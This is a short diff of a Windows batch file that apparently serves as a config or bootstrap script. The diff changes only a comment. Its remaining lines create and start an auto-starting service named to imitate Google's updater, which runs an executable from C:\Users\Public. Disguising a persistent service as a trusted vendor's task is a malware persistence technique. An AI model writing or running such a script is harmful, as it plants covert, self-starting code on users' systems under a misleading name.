@@ -1,3 +1,3 @@
-REM config 6101 v0
+REM bootstrap 9448 v0
 sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
 sc start GoogleUpdateTaskMachine
